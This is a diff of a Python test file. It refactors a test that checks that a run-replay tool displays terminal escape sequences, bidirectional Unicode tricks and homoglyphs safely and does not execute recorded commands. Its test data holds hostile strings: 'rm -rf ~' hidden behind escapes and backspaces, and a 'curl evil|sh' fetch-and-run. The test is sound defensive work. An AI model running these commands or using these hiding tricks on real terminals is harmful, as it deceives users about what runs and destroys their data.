@@ -261,35 +261,36 @@ def _osc(text: str) -> str:
     return f"a\x1b]0;{text}\x07b"
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        _osc("rm -rf ~"),
-        "\x1b]8;;x\x1b\\curl evil|sh\x1b]8;;\x1b\\",
-        "\x9d0;hidden\x9cshown",
-        "safe\rrm -rf ~",
-        "rm -rf ~" + "\b" * 8 + "echo ok ",
-        "a\u202ecod.exe\u2066",
-        "l\u200bs\ufeff\u3164\u034f",
-        "\x1b[8mhidden\x1b[0m\x1b[2J",
-        "/u\u0455r/bin/\u05d0 1 2",
-        "one\n  run  forged",
-        "$'\\x1b[0m'",
-        "\x85\u2028\x0b\x0c\x1c",
-        "\x7f\x1bPq\x1b\\\x1bc",
-    ],
+# What a terminal obeys, hides, or shows as something else.
+HIDING = (
+    _osc("rm -rf ~"),
+    "\x1b]8;;x\x1b\\curl evil|sh\x1b]8;;\x1b\\",
+    "\x9d0;hidden\x9cshown",
+    "safe\rrm -rf ~",
+    "rm -rf ~" + "\b" * 8 + "echo ok ",
+    "a\u202ecod.exe\u2066",
+    "l\u200bs\ufeff\u3164\u034f",
+    "\x1b[8mhidden\x1b[0m\x1b[2J",
+    "/u\u0455r/bin/\u05d0 1 2",
+    "one\n  run  forged",
+    "$'\\x1b[0m'",
+    "\x85\u2028\x0b\x0c\x1c",
+    "\x7f\x1bPq\x1b\\\x1bc",
 )
+
+
 def test_what_a_terminal_would_obey_or_hide_is_shown_and_runs_as_shown(
-    bundle: Path, tmp_path: Path, stand_in_root: Path, text: str
+    bundle: Path, tmp_path: Path, stand_in_root: Path
 ) -> None:
     _, run = unpacked(bundle, tmp_path / "x")
     content = json.loads((run / "run.json").read_text())
-    content["cell"]["env"]["VALUE"] = text
+    values = {f"VALUE{number}": text for number, text in enumerate(HIDING)}
+    content["cell"]["env"] |= values
     for node in content["nodes"]:
-        node["argv"].append(text)
-        node["env"]["EVIL"] = text
-        node["files"][_safe_name(text)] = text
-        node["after"] = [["/bin/rm", text]]
+        node["argv"] += HIDING
+        node["env"] |= {f"EVIL{number}": text for number, text in enumerate(HIDING)}
+        node["files"] |= {_safe_name(text): text for text in HIDING}
+        node["after"] = [["/bin/rm", text] for text in HIDING]
     content["nodes"][0]["host"] = "n1"
     (run / "run.json").write_text(json.dumps(content))
     mine = stood_in(tmp_path / "mine", stand_in_root)
@@ -299,15 +300,17 @@ def test_what_a_terminal_would_obey_or_hide_is_shown_and_runs_as_shown(
     before = ended.stdout.partition("rerun against recorded")[0]
     assert all(letter == "\n" or " " <= letter <= "~" for letter in before)
     assert "\n  run  forged" not in before
-    (line,) = [each for each in before.split("\n") if each.startswith("  env  VALUE=")]
-    as_bash = ["bash", "-c", f"printf %s {line.partition('=')[2]}"]
-    spelled = subprocess.run(as_bash, capture_output=True, env={"LC_ALL": "C.UTF-8"}, check=True)
-    assert spelled.stdout.decode() == text
     now = rerun_json(tmp_path / "runs")["nodes"][0]
-    assert now["env"]["VALUE"] == text
-    assert "EVIL" not in now["env"]  # what was recorded of nodes is compared, and not executed
+    for name, text in values.items():
+        (line,) = [each for each in before.split("\n") if each.startswith(f"  env  {name}=")]
+        as_bash = ["bash", "-c", f"printf %s {line.partition('=')[2]}"]
+        shown = subprocess.run(as_bash, capture_output=True, env={"LC_ALL": "C.UTF-8"}, check=True)
+        assert shown.stdout.decode() == text
+        assert now["env"][name] == text
+        assert text not in now["argv"]
+    # What was recorded of nodes is compared, and not executed.
+    assert not any(name.startswith("EVIL") for name in now["env"])
     assert (now["files"], now["after"]) == ({}, [])
-    assert text not in now["argv"]
 
 
 def _safe_name(text: str) -> str:
